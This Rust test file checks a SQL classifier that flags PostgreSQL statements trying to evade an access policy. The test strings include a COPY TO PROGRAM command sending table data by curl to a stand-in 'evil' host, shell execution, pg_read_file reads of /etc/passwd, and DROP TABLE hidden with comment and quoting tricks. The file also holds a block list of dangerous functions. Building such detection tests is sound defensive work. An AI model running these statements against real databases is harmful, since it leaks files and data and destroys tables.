//! Evasion corpus: each case is a way a workload might try to slip a statement
//! past a policy, and asserts the classification the policy needs to deny it.

use super::*;

fn all(sql: &str) -> Vec<StatementInfo> {
    classify(sql).statements
}

fn one(sql: &str) -> StatementInfo {
    let mut s = all(sql);
    assert_eq!(s.len(), 1, "{sql:?} => {s:#?}");
    s.remove(0)
}

fn q(s: &str) -> QualifiedName {
    QualifiedName::new(s.split('.'))
}

fn reads(s: &StatementInfo) -> Vec<String> {
    s.reads().map(|n| n.parts.join(".")).collect()
}

fn writes(s: &StatementInfo) -> Vec<String> {
    s.writes().map(|n| n.parts.join(".")).collect()
}

fn dangerous(s: &StatementInfo) -> Vec<String> {
    s.flags
        .iter()
        .filter_map(|f| match f {
            Flag::DangerousFunction(n) => Some(n.parts.join(".")),
            _ => None,
        })
        .collect()
}

#[test]
fn kinds() {
    let cases: &[(&str, Kind)] = &[
        ("SELECT 1", Kind::Read),
        ("VALUES (1), (2)", Kind::Read),
        ("EXPLAIN SELECT * FROM t", Kind::Read),
        ("INSERT INTO t VALUES (1)", Kind::Write),
        ("UPDATE t SET a = 1", Kind::Write),
        ("DELETE FROM t", Kind::Write),
        ("TRUNCATE t", Kind::Write),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Kind::Write,
        ),
        ("EXPLAIN ANALYZE DELETE FROM t", Kind::Write),
        ("CREATE TABLE t (a int)", Kind::Ddl),
        ("ALTER TABLE t ADD COLUMN b int", Kind::Ddl),
        ("DROP TABLE t", Kind::Ddl),
        ("CREATE INDEX i ON t (a)", Kind::Ddl),
        ("CREATE VIEW v AS SELECT * FROM t", Kind::Ddl),
        ("CREATE SCHEMA s", Kind::Ddl),
        ("SELECT * INTO copy_of_t FROM t", Kind::Ddl),
        ("GRANT SELECT ON t TO bob", Kind::Dcl),
        ("REVOKE ALL ON t FROM bob", Kind::Dcl),
        ("CREATE ROLE bob", Kind::Dcl),
        ("ALTER ROLE bob SUPERUSER", Kind::Dcl),
        ("DROP ROLE bob", Kind::Dcl),
        ("SET ROLE admin", Kind::RoleSwitch),
        ("set local role admin", Kind::RoleSwitch),
        ("SET SESSION AUTHORIZATION postgres", Kind::RoleSwitch),
        ("RESET ROLE", Kind::RoleSwitch),
        ("SET role = 'admin'", Kind::RoleSwitch),
        // sqlparser cannot parse this spelling: denied as unparsable either way.
        ("SET Role TO admin", Kind::Unparsable),
        ("SET session_authorization = postgres", Kind::RoleSwitch),
        ("DISCARD ALL", Kind::RoleSwitch),
        ("BEGIN", Kind::Transaction),
        ("START TRANSACTION READ ONLY", Kind::Transaction),
        ("COMMIT", Kind::Transaction),
        ("ROLLBACK", Kind::Transaction),
        ("SAVEPOINT a", Kind::Transaction),
        ("RELEASE SAVEPOINT a", Kind::Transaction),
        ("SET search_path = evil, public", Kind::Utility),
        ("SHOW search_path", Kind::Utility),
        ("RESET ALL", Kind::Utility),
        ("VACUUM t", Kind::Utility),
        ("ANALYZE t", Kind::Utility),
        ("LISTEN chan", Kind::Utility),
        ("NOTIFY chan", Kind::Utility),
        ("LOCK TABLE t", Kind::Utility),
        ("COPY t TO STDOUT", Kind::Utility),
        ("DEALLOCATE p", Kind::Utility),
        ("CALL do_things(1)", Kind::Procedural),
        ("DO $$ BEGIN END $$", Kind::Procedural),
        ("EXECUTE p(1)", Kind::Execute),
        ("SELEC 1", Kind::Unparsable),
        // sqlparser cannot parse it; PostgreSQL's tree describes it.
        ("REINDEX TABLE t", Kind::Utility),
        // Neither reads it: code to run later.
        (
            "CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING",
            Kind::Unparsable,
        ),
    ];
    for (sql, kind) in cases {
        assert_eq!(one(sql).kind, *kind, "{sql}");
    }
}

#[test]
fn names_casing_quoting_and_schemas() {
    assert_eq!(reads(&one("SeLeCt * FrOm USERS")), ["users"]);
    assert_eq!(reads(&one("select * from \"Users\"")), ["Users"]);
    assert_eq!(reads(&one("select * from Public.Users")), ["public.users"]);
    assert_eq!(
        reads(&one("select * from \"Public\".\"Users\"")),
        ["Public.Users"]
    );
    assert_eq!(reads(&one("select * from \"we\"\"ird\"")), ["we\"ird"]);
    assert_eq!(q("a.B").to_string(), "a.\"B\"");
    // PostgreSQL truncates identifiers to 63 bytes: so must we.
    let long = format!("select * from {}xyz", "s".repeat(63));
    assert_eq!(reads(&one(&long)), ["s".repeat(63)]);
}

#[test]
fn tables_through_joins_subqueries_and_returning() {
    let s = one(
        "SELECT a.x FROM a JOIN b ON a.id = b.id WHERE a.y IN (SELECT y FROM c) \
                 AND EXISTS (SELECT 1 FROM d.e)",
    );
    assert_eq!(reads(&s), ["a", "b", "c", "d.e"]);
    let s = one("INSERT INTO archive SELECT * FROM orders RETURNING *");
    assert_eq!(
        (writes(&s), reads(&s)),
        (vec!["archive".into()], vec!["orders".to_owned()])
    );
    let s = one("UPDATE t SET x = s.x FROM s WHERE t.id = s.id RETURNING t.*");
    assert_eq!(
        (writes(&s), reads(&s)),
        (vec!["t".into()], vec!["s".to_owned()])
    );
    let s = one("DELETE FROM t USING s WHERE t.id = s.id");
    assert_eq!(
        (writes(&s), reads(&s)),
        (vec!["t".into()], vec!["s".to_owned()])
    );
    // Read and written in one statement: both reported.
    let s = one("UPDATE t SET x = (SELECT max(x) FROM t)");
    assert_eq!(
        (writes(&s), reads(&s)),
        (vec!["t".into()], vec!["t".to_owned()])
    );
    assert_eq!(one("SELECT count(*) FROM t").functions, [q("count")]);
}

/// DDL and DCL: the objects created or changed are written, the tables only
/// named (a foreign key's, INHERITS', LIKE's) are read.
#[test]
fn ddl_names_what_it_changes_and_what_it_references() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        (
            "CREATE TABLE o (c int REFERENCES customers, d int, FOREIGN KEY (d) REFERENCES s.d)",
            &["o"],
            &["customers", "s.d"],
        ),
        ("CREATE TABLE c () INHERITS (p1, p2)", &["c"], &["p1", "p2"]),
        ("CREATE TABLE c (LIKE src)", &["c"], &["src"]),
        (
            "ALTER TABLE o ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers (id)",
            &["o"],
            &["customers"],
        ),
        (
            "ALTER TABLE o ADD COLUMN c int REFERENCES customers",
            &["o"],
            &["customers"],
        ),
        ("ALTER INDEX i RENAME TO j", &["i"], &[]),
        ("CREATE SEQUENCE seq", &["seq"], &[]),
        (
            "CREATE TRIGGER t AFTER INSERT ON o FOR EACH ROW EXECUTE FUNCTION f()",
            &["o"],
            &[],
        ),
        ("DROP TRIGGER t ON o", &["o"], &[]),
        ("CREATE POLICY p ON o USING (true)", &["o"], &[]),
        ("ALTER POLICY p ON o RENAME TO q", &["o"], &[]),
        ("DROP POLICY p ON o", &["o"], &[]),
        ("GRANT SELECT ON o, p TO app", &["o", "p"], &[]),
        ("REVOKE ALL ON SEQUENCE seq FROM app", &["seq"], &[]),
        ("VACUUM o", &[], &["o"]),
        ("COMMENT ON TABLE s.o IS 'x'", &["s.o"], &[]),
        ("COMMENT ON COLUMN s.o.c IS 'x'", &["s.o"], &[]),
        ("COMMENT ON FUNCTION f IS 'x'", &[], &[]),
        // Every table of a schema at once: `schema.*`.
        (
            "GRANT SELECT ON ALL TABLES IN SCHEMA public, \"App\" TO app",
            &["App.*", "public.*"],
            &[],
        ),
        (
            "REVOKE USAGE ON ALL SEQUENCES IN SCHEMA s FROM app",
            &["s.*"],
            &[],
        ),
        ("GRANT USAGE ON SCHEMA s TO app", &[], &[]),
        ("DROP SCHEMA IF EXISTS s, t CASCADE", &["s.*", "t.*"], &[]),
        ("ALTER SCHEMA s RENAME TO t", &["s.*"], &[]),
        ("ALTER SCHEMA s OWNER TO intruder", &["s.*"], &[]),
    ];
    for (sql, w, r) in cases {
        let s = one(sql);
        assert_eq!(writes(&s), *w, "{sql}");
        assert_eq!(reads(&s), *r, "{sql}");
    }
    let t = one("CREATE TRIGGER t AFTER INSERT ON o FOR EACH ROW EXECUTE FUNCTION audit.f()");
    assert_eq!(t.functions, [q("audit.f")]);
    // A grant names the functions it hands out, a dangerous one flagged;
    // every function of a schema may hold one. Several at once (sqlparser
    // takes one) are read from PostgreSQL's tree. So does a routine's DDL
    // (ALTER PROCEDURE / ROUTINE and DROP ROUTINE from the tree), and future
    // functions of a schema are `s.*`.
    // (statement, kind, functions named, dangerous ones)
    let routines: &[(&str, Kind, &[&str], &[&str])] = &[
        (
            "GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO app",
            Kind::Dcl,
            &["pg_catalog.pg_read_file"],
            &["pg_catalog.pg_read_file"],
        ),
        (
            "REVOKE EXECUTE ON PROCEDURE app.refresh(int) FROM PUBLIC",
            Kind::Dcl,
            &["app.refresh"],
            &[],
        ),
        (
            "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO app",
            Kind::Dcl,
            &["public.*"],
            &["public.*"],
        ),
        (
            "GRANT EXECUTE ON FUNCTION f(int), lo_export(oid, text) TO app",
            Kind::Dcl,
            &["f", "lo_export"],
            &["lo_export"],
        ),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT EXECUTE ON FUNCTIONS TO PUBLIC",
            Kind::Dcl,
            &["app.*"],
            &["app.*"],
        ),
        (
            "ALTER DEFAULT PRIVILEGES REVOKE EXECUTE ON ROUTINES FROM PUBLIC",
            Kind::Dcl,
            &["*"],
            &["*"],
        ),
        (
            "DROP FUNCTION IF EXISTS f(int), app.g(text) CASCADE",
            Kind::Ddl,
            &["app.g", "f"],
            &[],
        ),
        ("DROP PROCEDURE app.p(int)", Kind::Ddl, &["app.p"], &[]),
        ("DROP ROUTINE app.p", Kind::Ddl, &["app.p"], &[]),
        (
            "DROP FUNCTION lo_export(oid, text)",
            Kind::Ddl,
            &["lo_export"],
            &["lo_export"],
        ),
        (
            "ALTER FUNCTION app.f(int) SECURITY DEFINER",
            Kind::Ddl,
            &["app.f"],
            &[],
        ),
        (
            "ALTER FUNCTION app.f(int) OWNER TO admin",
            Kind::Ddl,
            &["app.f"],
            &[],
        ),
        // COMMENT ON a routine with its argument types: from the tree.
        (
            "COMMENT ON FUNCTION app.f(int) IS 'refreshes the cache'",
            Kind::Ddl,
            &["app.f"],
            &[],
        ),
        ("COMMENT ON PROCEDURE p IS 'x'", Kind::Ddl, &["p"], &[]),
        (
            "ALTER PROCEDURE app.p(int) SET search_path = public",
            Kind::Ddl,
            &["app.p"],
            &[],
        ),
        (
            "ALTER ROUTINE pg_read_file(text) SECURITY DEFINER",
            Kind::Ddl,
            &["pg_read_file"],
            &["pg_read_file"],
        ),
        (
            "CREATE OR REPLACE FUNCTION app.f(a int) RETURNS int LANGUAGE sql AS $$ SELECT a $$",
            Kind::Ddl,
            &["app.f"],
            &[],
        ),
    ];
    for (sql, kind, functions, flagged) in routines {
        let g = one(sql);
        let named: Vec<QualifiedName> = functions.iter().map(|f| q(f)).collect();
        let flagged: Vec<String> = flagged.iter().map(|f| f.to_string()).collect();
        assert_eq!(
            (g.kind, g.functions.clone(), dangerous(&g)),
            (*kind, named, flagged),
            "{sql}"
        );
    }
    // Creating a routine is named and flagged however it is read:
    // sqlparser's reading, or PostgreSQL's tree for what sqlparser cannot
    // parse (a procedure with a `$$` body).
    for (sql, name) in [
        (
            "CREATE OR REPLACE FUNCTION app.f(a int) RETURNS int LANGUAGE sql AS $$ SELECT a $$",
            "app.f",
        ),
        (
            "CREATE PROCEDURE app.p() LANGUAGE sql AS $$ UPDATE t SET x = 1 $$",
            "app.p",
        ),
    ] {
        let c = one(sql);
        assert_eq!(
            (
                c.kind,
                c.functions.clone(),
                c.has_flag(&Flag::CreatesRoutine)
            ),
            (Kind::Ddl, vec![q(name)], true),
            "{sql}"
        );
    }
}

#[test]
fn ctes_are_scoped_like_postgres() {
    assert_eq!(
        reads(&one("WITH x AS (SELECT * FROM secrets) SELECT * FROM x")),
        ["secrets"]
    );
    // A non-recursive CTE does not see itself: the inner name is the real table.
    assert_eq!(
        reads(&one(
            "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets"
        )),
        ["secrets"]
    );
    // A CTE's name does not leak out of the subquery that defines it.
    assert_eq!(
        reads(&one(
            "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets"
        )),
        ["secrets"]
    );
    // Qualified names never refer to CTEs.
    assert_eq!(
        reads(&one("WITH t AS (SELECT 1) SELECT * FROM public.t")),
        ["public.t"]
    );
    // Later CTEs see earlier ones; recursive CTEs see themselves.
    assert!(
        reads(&one(
            "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b"
        ))
        .is_empty()
    );
    assert!(
        reads(&one(
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r"
        ))
        .is_empty()
    );
}

#[test]
fn cte_wrapped_writes_are_writes() {
    let s = one("WITH d AS (DELETE FROM audit_log RETURNING *) SELECT * FROM d");
    assert_eq!(
        (s.kind, writes(&s)),
        (Kind::Write, vec!["audit_log".to_owned()])
    );
    let s = one("with u as (update Accounts set balance = 0 returning id) select count(*) from u");
    assert_eq!(
        (s.kind, writes(&s)),
        (Kind::Write, vec!["accounts".to_owned()])
    );
    let s = one("WITH i AS (INSERT INTO t SELECT * FROM s RETURNING 1) SELECT 1");
    assert_eq!(
        (s.kind, writes(&s), reads(&s)),
        (Kind::Write, vec!["t".to_owned()], vec!["s".to_owned()])
    );
}

#[test]
fn multi_statement_strings_are_decided_per_statement() {
    let s = all("SELECT * FROM t; DROP TABLE users");
    assert_eq!(
        s.iter().map(|s| s.kind).collect::<Vec<_>>(),
        [Kind::Read, Kind::Ddl]
    );
    assert_eq!(writes(&s[1]), ["users"]);
    assert_eq!((s[0].span.clone(), s[1].span.clone()), (0..15, 16..33));
    // A statement that does not parse does not hide its neighbours.
    let c = classify("SELECT 1; SELEC 2; DELETE FROM t");
    assert!(c.any_unparsable());
    assert_eq!(
        c.statements.iter().map(|s| s.kind).collect::<Vec<_>>(),
        [Kind::Read, Kind::Unparsable, Kind::Write]
    );
    // Empty statements are skipped; an all-comment string has no statements.
    assert_eq!(all(";; SELECT 1 ;;").len(), 1);
    assert!(all("").is_empty());
    assert!(all("-- nothing\n/* here */").is_empty());
}

#[test]
fn comments_do_not_hide_or_invent_statements() {
    // A line comment hides the rest of its line, `;` included.
    let s = one("SELECT 1 -- ; DROP TABLE users");
    assert_eq!((s.kind, s.tables.len()), (Kind::Read, 0));
    let s = all("SELECT 1 -- x\n; DROP TABLE users");
    assert_eq!(s.len(), 2);
    // Block comments nest in PostgreSQL.
    let s = one("SELECT 1 /* /* */ ; DROP TABLE users; */");
    assert_eq!((s.kind, s.tables.len()), (Kind::Read, 0));
    let s = all("SELECT 1 /* /* */ */ ; DROP TABLE users");
    assert_eq!(
        s.iter().map(|s| s.kind).collect::<Vec<_>>(),
        [Kind::Read, Kind::Ddl]
    );
    // Unterminated (because nested) comment: PostgreSQL rejects it; so do we.
    assert!(classify("SELECT 1 /* /* */ ; DROP TABLE users").any_unparsable());
    // Comments between tokens and odd casing change nothing.
    let s = one("DeLeTe/**/FROM/* x */\"users\"--\n");
    assert_eq!(
        (s.kind, writes(&s)),
        (Kind::Write, vec!["users".to_owned()])
    );
    let s = one("/* lead */ DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$");
    assert!(s.has_flag(&Flag::OpaqueCode));
}

#[test]
fn quoting_does_not_hide_or_invent_statements() {
    // Dollar quotes containing `;` and quotes.
    let s = one("SELECT $$;DROP TABLE users;'$$");
    assert_eq!((s.kind, s.tables.len()), (Kind::Read, 0));
    let s = one("SELECT $x$ $$ ; DROP TABLE users; ' $x$ FROM t");
    assert_eq!(reads(&s), ["t"]);
    // E'' strings: backslash escapes the quote.
    let s = one("SELECT E'\\'; DROP TABLE users; --'");
    assert_eq!((s.kind, s.tables.len()), (Kind::Read, 0));
    // Plain string with a backslash before the quote: one statement with
    // standard_conforming_strings on, a different reading with it off.
    let c = classify("SELECT 'a\\'; DROP TABLE users; --'");
    assert_eq!(c.statements.len(), 1);
    assert_eq!(c.statements[0].kind, Kind::Unparsable);
    let c = classify("SELECT 'x\\', pg_read_file('/etc/passwd') --'");
    assert!(c.any_unparsable());
    // Backslashes elsewhere read the same both ways.
    assert_eq!(reads(&one("SELECT 'C:\\temp\\x' FROM t")), ["t"]);
    // Quoted identifiers containing `;` and quotes.
    assert_eq!(reads(&one("SELECT 1 FROM \"a;b\"\"c\"")), ["a;b\"c"]);
    // Unicode-escaped identifiers and strings are refused.
    assert!(classify("SELECT U&\"\\0070g_read_file\"('/etc/passwd')").any_unparsable());
    assert!(classify("SELECT * FROM u&\"\\0075sers\"").any_unparsable());
    assert!(classify("SELECT U&'\\0027; DROP TABLE users; --'").any_unparsable());
    // Unterminated literals.
    assert!(classify("SELECT 'abc").any_unparsable());
    assert!(classify("SELECT $a$ abc $b$").any_unparsable());
}

#[test]
fn dangerous_functions_in_every_spelling() {
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT PG_READ_FILE('/etc/passwd')",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        "SELECT \"pg_read_file\"('/etc/passwd')",
        "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') AS f(x)",
        "SELECT length(pg_read_file('/etc/passwd'))",
        "SELECT 1 WHERE pg_read_file('/etc/passwd') IS NOT NULL",
        "WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x",
        "SELECT /* c */ pg_read_file /* c */ ('/etc/passwd')",
    ] {
        let s = one(sql);
        assert_eq!(dangerous(&s).len(), 1, "{sql}: {s:#?}");
        assert!(dangerous(&s)[0].ends_with("pg_read_file"), "{sql}");
        assert!(
            s.tables.is_empty(),
            "a table function is not a table: {sql}"
        );
    }
    for (sql, f) in [
        ("SELECT lo_import('/etc/passwd')", "lo_import"),
        ("SELECT lo_export(1234, '/tmp/x')", "lo_export"),
        (
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            "dblink",
        ),
        (
            "SELECT dblink_exec('host=x', 'DROP TABLE users')",
            "dblink_exec",
        ),
        ("SELECT set_config('role', 'admin', false)", "set_config"),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            "pg_terminate_backend",
        ),
        ("SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
        ("SELECT pg_reload_conf()", "pg_reload_conf"),
        ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
        ("SELECT pg_ls_dir('.')", "pg_ls_dir"),
        ("SELECT pg_stat_file('postgresql.conf')", "pg_stat_file"),
        (
            "SELECT query_to_xml('select * from secrets', true, true, '')",
            "query_to_xml",
        ),
        (
            "SELECT table_to_xml('secrets', true, true, '')",
            "table_to_xml",
        ),
    ] {
        assert_eq!(dangerous(&one(sql)), [f], "{sql}");
    }
    assert!(dangerous(&one("SELECT lower(name), now() FROM t")).is_empty());

    // The list is extensible (and can be replaced).
    let mut list = DangerousFunctions::none();
    list.insert("exfil_*");
    list.insert("My_Func");
    let c = Classifier::new(list);
    let s = &c
        .classify("SELECT app.exfil_to_s3(x), my_func() FROM t")
        .statements[0];
    assert_eq!(dangerous(s), ["app.exfil_to_s3", "my_func"]);
    assert!(!c.classify("SELECT pg_read_file('x')").statements[0].calls_dangerous_function());
}

#[test]
fn copy_variants() {
    let s = one("COPY users TO PROGRAM 'curl -d @- http://evil'");
    assert!(s.has_flag(&Flag::CopyProgram));
    assert_eq!(reads(&s), ["users"]);
    let s = one("copy users from program 'sh -c id'");
    assert!(s.has_flag(&Flag::CopyProgram));
    assert_eq!(writes(&s), ["users"]);
    let s = one("COPY users FROM '/tmp/users.csv'");
    assert!(s.has_flag(&Flag::CopyFile));
    assert_eq!(writes(&s), ["users"]);
    let s = one("COPY (SELECT * FROM secrets) TO '/tmp/out'");
    assert!(s.has_flag(&Flag::CopyFile));
    assert_eq!(reads(&s), ["secrets"]);
    let s = one("COPY (SELECT * FROM secrets) TO STDOUT");
    assert!(s.flags.is_empty());
    assert_eq!(
        (s.kind, reads(&s)),
        (Kind::Utility, vec!["secrets".to_owned()])
    );
}

#[test]
fn do_blocks_and_routines_are_opaque_code() {
    for sql in [
        "DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$",
        "do language plpgsql $body$ begin perform pg_read_file('/etc/passwd'); end $body$",
        "Do 'BEGIN NULL; END'",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, Kind::Procedural, "{sql}");
        assert!(s.has_flag(&Flag::OpaqueCode), "{sql}");
    }
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1; $$");
    assert_eq!(s.kind, Kind::Ddl);
    assert!(s.has_flag(&Flag::CreatesRoutine));
    let s = one("CALL app.purge(30)");
    assert_eq!(
        (s.kind, s.functions.clone()),
        (Kind::Procedural, vec![q("app.purge")])
    );
}

#[test]
fn prepare_execute_deallocate() {
    let mut prepared = PreparedStatements::default();
    let p = one("PREPARE Wipe AS DELETE FROM users");
    assert_eq!(
        (p.kind, writes(&p)),
        (Kind::Write, vec!["users".to_owned()])
    );
    assert!(p.has_flag(&Flag::Prepare("wipe".into())));
    prepared.record(&p);

    let e = one("EXECUTE wipe");
    assert_eq!(e.kind, Kind::Execute);
    let resolved = prepared.resolve(&e).unwrap();
    assert_eq!(
        (resolved.kind, writes(resolved)),
        (Kind::Write, vec!["users".to_owned()])
    );
    // Quoted names are distinct, as in PostgreSQL.
    assert!(prepared.resolve(&one("EXECUTE \"Wipe\"")).is_none());
    let mut quoted = PreparedStatements::default();
    quoted.record(&one("PREPARE \"Wipe\" AS DELETE FROM users"));
    assert_eq!(
        quoted.resolve(&one("EXECUTE \"Wipe\"")).map(|s| s.kind),
        Some(Kind::Write)
    );
    assert!(quoted.resolve(&one("EXECUTE wipe")).is_none());

    let r = one("PREPARE r (int) AS SELECT * FROM t WHERE id = $1");
    assert_eq!((r.kind, reads(&r)), (Kind::Read, vec!["t".to_owned()]));
    prepared.record(&r);
    assert_eq!(prepared.len(), 2);
    prepared.record(&one("DEALLOCATE wipe"));
    assert!(prepared.resolve(&e).is_none());
    assert_eq!(prepared.len(), 1);
    prepared.record(&one("DISCARD ALL"));
    assert!(prepared.is_empty());
    prepared.record(&r);
    prepared.record(&one("DEALLOCATE ALL"));
    assert!(prepared.is_empty());
}

#[test]
fn risky_reads_are_flagged() {
    assert!(one("SELECT * FROM t FOR UPDATE").has_flag(&Flag::LocksRows));
    let s = one("SELECT * INTO stolen FROM secrets");
    assert_eq!(
        (writes(&s), reads(&s)),
        (vec!["stolen".into()], vec!["secrets".to_owned()])
    );
}

#[test]
fn boundary_disagreement_is_whole_string_unparsable() {
    // Whatever is unreadable makes every statement of the string unparsable:
    // nothing else in it is classified as allowed.
    let c = classify("SELECT 1; SELECT 'a\\'; DROP TABLE users; --'");
    assert_eq!(c.statements.len(), 1);
    assert_eq!(c.statements[0].kind, Kind::Unparsable);
    assert_eq!(c.statements[0].span, 0..44);
    // A `;` inside parentheses still ends a statement in PostgreSQL's lexer.
    let c = classify("SELECT (1; DROP TABLE users)");
    assert!(c.statements.iter().all(|s| s.kind == Kind::Unparsable));
}

#[test]
fn string_literals_read_as_names_are_unparsable() {
    // sqlparser takes the string after TRUNCATE as a table name; PostgreSQL
    // and MySQL reject the text. Without the cross-check too (it is
    // configurable), and in the MySQL dialect, which has none.
    let plain = Classifier::default().with_cross_check(false);
    for sql in ["TRUNCATE 'customers'", "TRUNCATE public.'customers'"] {
        for c in [plain.classify(sql), classify_mysql(sql)] {
            assert_eq!(c.statements.len(), 1, "{sql}");
            let s = &c.statements[0];
            assert_eq!(s.kind, Kind::Unparsable, "{sql}: {s:?}");
            assert_eq!(
                s.error.as_deref(),
                Some("a string literal where a name belongs")
            );
        }
        assert_eq!(one(sql).kind, Kind::Unparsable, "{sql}");
    }
    // Quoted identifiers (and strings elsewhere) are names and values as before.
    assert_eq!(
        writes(&plain.classify("TRUNCATE \"Customers\"").statements[0]),
        ["Customers"]
    );
    assert_eq!(
        writes(&classify_mysql("TRUNCATE `Customers`").statements[0]),
        ["Customers"]
    );
    assert_eq!(one("SELECT 'customers' FROM t").kind, Kind::Read);
}

#[test]
fn ordinary_queries_are_not_refused() {
    for sql in [
        "SELECT id::text, now(), data->>'k', data #> '{a,b}' FROM t WHERE id = $1",
        "SELECT B'101', X'ff', N'x', E'\\n', 'it''s', 1e5, 1.5, .5, (ARRAY[1, 2])[1]",
        "SELECT INTERVAL '1 day', CAST(x AS numeric(10, 2)) FROM t",
        "SELECT café FROM \"Ünïcode\"",
        "SELECT a$b FROM t",
        "INSERT INTO t (a, b) VALUES ($1, $2) ON CONFLICT (a) DO UPDATE SET b = EXCLUDED.b",
        "SELECT count(*) FILTER (WHERE x > 1) OVER (PARTITION BY y) FROM t",
        "SELECT * FROM t WHERE name ILIKE 'a%' ORDER BY 1 LIMIT 10 OFFSET 5",
        "SELECT $tag$ it's $$ $tag$",
        "SELECT 1\r\n;\tSELECT 2",
    ] {
        let c = classify(sql);
        assert!(!c.any_unparsable(), "{sql}: {c:#?}");
    }
}

#[test]
fn arbitrary_input_never_panics() {
    // xorshift64: deterministic pseudo-randomness without a dependency.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut rng = move |n: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % n.max(1) as u64) as usize
    };
    let seeds = [
        "SELECT a FROM t JOIN u ON t.id = u.id WHERE x IN (SELECT y FROM v)",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d; COMMIT",
        "COPY t TO PROGRAM 'x'; DO $$ BEGIN END $$; PREPARE p AS SELECT 1",
        "SELECT E'\\'', $q$;$q$, \"a\"\"b\" /* /* */ */ -- c",
        "SET ROLE x; EXECUTE p(1); SELECT pg_read_file('/etc/passwd')",
    ];
    let alphabet: Vec<char> = "'\"$;-/*\\EeUu&()[] \n\tab1.:,é".chars().collect();
    for _ in 0..3000 {
        let mut s: Vec<char> = seeds[rng(seeds.len())].chars().collect();
        for _ in 0..1 + rng(6) {
            let at = rng(s.len() + 1);
            match rng(3) {
                0 => s.insert(at, alphabet[rng(alphabet.len())]),
                1 if at < s.len() => {
                    s.remove(at);
                }
                _ => s.truncate(at),
            }
        }
        let sql: String = s.into_iter().collect();
        for st in classify(&sql).statements {
            assert!(
                sql.get(st.span.clone()).is_some(),
                "{sql:?}: bad span {:?}",
                st.span
            );
        }
    }
    // Deep nesting hits sqlparser's recursion limit, not the stack.
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(classify(&deep).any_unparsable());
}

#[test]
fn lexer_word_disagreement_is_whole_string_unparsable() {
    // PostgreSQL 16 reads `123abc` as one (invalid) numeric token; sqlparser as
    // a number and a word. The readings differ, so nothing is classified.
    let c = classify("SELECT 1; SELECT 123abc");
    assert_eq!(c.statements.len(), 1);
    assert_eq!(c.statements[0].kind, Kind::Unparsable);
}

/// Texts that share a decision-cache fingerprint must classify alike: the
/// cache hands the first one's decision to the others.
#[test]
fn texts_sharing_a_fingerprint_classify_alike() {
    let families: &[&[&str]] = &[
        &[
            "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
            "select abalance from pgbench_accounts where aid = 98765 -- x",
        ],
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_read_file('postgresql.conf')",
        ],
        &["COPY t TO '/tmp/a'", "COPY t TO 'x'"],
        &["SET role = 'postgres'", "SET role = 'nobody'"],
        &[
            "SELECT 'a'; DELETE FROM customers",
            "SELECT 'b;'; DELETE FROM customers",
        ],
        &["SELECT 'x' || 'y'", "SELECT '' || 'zz'"],
        &[
            "SELECT set_config('role', 'postgres', false)",
            "SELECT set_config('x', 'y', false)",
        ],
    ];
    for fam in families {
        let fp = fingerprint(fam[0]).unwrap();
        let shape = |s: &str| {
            classify(s)
                .statements
                .into_iter()
                .map(|s| (s.kind, s.tables, s.functions, s.flags))
                .collect::<Vec<_>>()
        };
        for t in fam.iter() {
            assert_eq!(fingerprint(t).as_deref(), Some(fp.as_str()), "{t}");
            assert_eq!(shape(t), shape(fam[0]), "{t} vs {}", fam[0]);
        }
    }
    // Spellings that read differently somewhere never share one.
    for (a, b) in [
        (
            "SELECT 'a\\'; DELETE FROM t; --'",
            "SELECT 'a'; DELETE FROM t; --'",
        ),
        ("SELECT 1or true", "SELECT 1 or true"),
        ("SELECT $$a$$", "SELECT $$b$$"),
    ] {
        assert_ne!(fingerprint(a), fingerprint(b), "{a} / {b}");
    }
}

/// Texts our lexer and sqlparser read, but PostgreSQL's own parser reads
/// differently (another statement count, another kind) or not at all: the
/// cross-check makes them unparsable, with the disagreement named.
#[test]
fn postgres_grammar_cross_check_catches_differentials() {
    let ours_only = Classifier::default().with_cross_check(false);
    for (sql, why) in [
        // sqlparser accepts other dialects' syntax that PostgreSQL does not.
        ("DESCRIBE customers", "rejects the text"),
        // Only SELECT/INSERT/UPDATE/DELETE/MERGE/VALUES can be prepared.
        ("PREPARE p AS TRUNCATE customers", "rejects the text"),
        // A subscript needs parentheses around an ARRAY constructor.
        ("SELECT ARRAY[1, 2][1]", "rejects the text"),
        ("INSERT customers VALUES (1)", "rejects the text"),
        // Adjacent literals only continue across a newline in PostgreSQL.
        ("SELECT 'a' 'b'", "rejects the text"),
        // A standard SQL function body: `;` inside BEGIN ATOMIC does not end
        // the statement for PostgreSQL; a splitter that ignores this sees
        // a trailing `END` (a COMMIT).
        (
